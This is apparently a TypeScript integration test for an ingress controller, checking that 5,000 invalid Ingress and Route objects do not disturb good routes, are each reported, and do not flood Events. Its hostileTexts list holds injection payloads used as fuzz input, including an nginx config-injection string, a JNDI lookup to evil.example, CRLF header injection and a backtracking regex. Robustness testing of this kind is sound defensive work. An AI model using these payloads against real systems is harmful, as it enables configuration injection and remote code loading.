import { expect, test } from '@jest/globals';

import { ControllerRig, installedWith } from '../support/cluster/controller-rig.ts';
import { describeWithCluster } from '../support/cluster/describe-with-cluster.ts';
import type { KubeObject, Manifest } from '../support/cluster/manifest.ts';
import { ingress, route, slice } from '../support/cluster/objects.ts';
import { eventually } from '../support/eventually.ts';
import { failuresIn } from '../support/load.ts';

const host = 'shop.example';
const limitMs = 180_000;
const prefix = 'nginx.ingress.kubernetes.io';
/** What the recorder lets through: 50 Events at once, then ten a second. */
const eventBurst = 50;
const eventEveryMs = 100;

const annotated = (key: string, annotations: Readonly<Record<string, string>>): Manifest =>
  ingress(key, `${key.replace('/', '-')}.example`, {
    annotations: Object.fromEntries(
      Object.entries(annotations).map(([name, value]) => [`${prefix}/${name}`, value]),
    ),
  });

/** Texts that have broken other controllers, each where the API server takes any text. */
const hostileTexts = [
  '"; } location / { return 200 "mine"; } #',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  '((((((a+)+)+)+)+)+)$',
  '\u202egnp.exe \u0000\r\nX-Injected: yes',
  '９０',
  'x'.repeat(4000),
  '[[]{}: &a *a !!js/function >',
];

/** Each makes one object that the API server stores and that is wrong. */
const faults: readonly ((key: string, index: number) => Manifest)[] = [
  (key) => ingress(key, host),
  (key) => ingress(key, `${key.replace('/', '-')}.example`, { service: 'missing' }),
  (key) => annotated(key, { canary: 'true', 'canary-weight': 'abc' }),
  (key) => annotated(key, { 'proxy-read-timeout': '-1' }),
  (key) => annotated(key, { 'auth-url': 'http://auth.example/' }),
  (key, index) => annotated(key, { 'permanent-redirect': hostileTexts[index % hostileTexts.length] ?? '' }),
  (key, index) => annotated(key, { 'upstream-vhost': hostileTexts[index % hostileTexts.length] ?? '' }),
  (key) => route(key, host),
  (key) => route(key, `${key.replace('/', '-')}.example`, { backends: [{ service: 'missing', port: 80 }] }),
  (key) =>
    route(key, `${key.replace('/', '-')}.example`, {
      backends: [{ service: 'web', namespace: 'default', port: 80 }],
    }),
];

/** Five of each fault in a namespace, over and over. */
function* invalidObjects(count: number, namespace: string): Generator<Manifest> {
  for (let index = 0; index < count; index++) {
    const fault = faults[index % faults.length];
    if (fault !== undefined) yield fault(`${namespace}/bad-${index}`, index);
  }
}

interface Finding {
  readonly severity: string;
  readonly object: { readonly kind: string; readonly namespace: string; readonly name: string };
}

/** Behind the others in the alphabet: objects of the same second are of equal age, and then names decide. */
const careless = 'tenant';

const idOf = ({ kind, namespace, name }: Finding['object']): string => `${kind}/${namespace}/${name}`;

/** Whether its conditions say that something is wrong with it as it is now. */
function isReported({ metadata, status }: KubeObject): boolean {
  const { conditions = [] } = (status ?? {}) as {
    readonly conditions?: readonly { readonly status: string; readonly observedGeneration: number }[];
  };
  return conditions.some((one) => one.status === 'False' && one.observedGeneration === metadata.generation);
}

describeWithCluster(
  '5,000 invalid objects',
  (cluster) => {
    test(
      'harm no good one, and each has its report',
      async () => {
        const rig = new ControllerRig(cluster());
        try {
          const { admin } = cluster();
          const [first, second] = [await rig.upstream('first'), await rig.upstream('second')];
          await rig.serve('good', host, first);
          await cluster().ensureNamespace('good-too');
          await rig.apply(route('good/route', 'route.example'));
          await cluster().ensureNamespace(careless);
          const replica = await rig.replica('pod-a', '--publish-status-address', '192.0.2.1');
          await replica.live();
          const startMs = performance.now();
          const load = await rig.load(replica.port, host);
          const readiness = rig.watchReadiness(replica);

          const bad = [...invalidObjects(5000, careless)];
          await admin.createMany(bad);
          const wanted = new Set(
            bad.map(({ kind, metadata: { name } }) => idOf({ kind, namespace: careless, name })),
          );
          const findings = await eventually(
            () => replica.json<readonly Finding[]>('/debug/diagnostics'),
            (all) => wanted.isSubsetOf(new Set(all.map(({ object }) => idOf(object)))),
          );
          expect(findings.filter(({ object }) => object.namespace !== careless)).toEqual([]);
          expect(await replica.metric('sallyport_diagnostics')).toBe(findings.length);

          const routeKind = { apiVersion: 'sallyport.dev/v1alpha1', kind: 'Route' };
          const routes = bad.filter(({ kind }) => kind === 'Route').length;
          const reported = async (): Promise<number> =>
            (await admin.list(routeKind, { namespace: careless })).filter(isReported).length;
          await eventually(reported, (count) => count === routes);
          expect(
            await replica.metric('sallyport_object_conditions', 'status="False"'),
          ).toBeGreaterThanOrEqual(routes);

          // Nobody was disturbed: a worker that is replaced takes its clients' connections with it.
          expect(await replica.metric('sallyport_workers_restarted_total')).toBe(0);
          // Good ones are served and changed as before.
          expect(await replica.get('route.example')).toMatchObject({ status: 200, body: 'first' });
          await rig.apply(slice('good/web', second.address, second.port));
          await replica.until(host, ({ body }) => body === 'second');
          expect(failuresIn(await load.stop())).toEqual([]);
          expect(await readiness()).toEqual(new Set([200]));

          const events = await admin.list({ apiVersion: 'v1', kind: 'Event' }, { namespace: careless });
          const elapsedMs = performance.now() - startMs;
          expect(events.length).toBeGreaterThanOrEqual(eventBurst);
          expect(events.length).toBeLessThanOrEqual(eventBurst + elapsedMs / eventEveryMs + 1);
          expect(await replica.metric('sallyport_kube_events_total', 'result="dropped"')).toBeGreaterThan(0);
          expect(replica.process.stderr).toBe('');
        } finally {
          await rig.stop();
        }
      },
      limitMs,
    );
  },
  installedWith('manifests/rbac.yaml'),
);
